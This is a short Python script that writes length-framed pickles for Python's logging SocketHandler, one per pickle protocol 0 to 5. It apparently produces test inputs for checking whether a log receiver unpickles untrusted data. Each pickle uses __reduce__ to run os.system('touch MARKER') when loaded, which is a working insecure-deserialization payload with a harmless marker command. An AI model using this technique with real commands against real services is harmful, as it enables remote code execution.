"""Writes SocketHandler-framed pickles that would run `touch MARKER` if unpickled, one per protocol 0..5.

usage: evil_pickles.py MARKER OUT_DIR
"""
import os
import pickle
import struct
import sys

marker, out = sys.argv[1], sys.argv[2]


class Evil:
    def __reduce__(self):
        return os.system, ("touch " + marker,)


for protocol in range(6):
    body = pickle.dumps({"msg": "evil", "name": "x", "levelno": 40, "payload": Evil()}, protocol=protocol)
    with open(os.path.join(out, "evil_p%d.frame" % protocol), "wb") as f:
        f.write(struct.pack(">L", len(body)) + body)
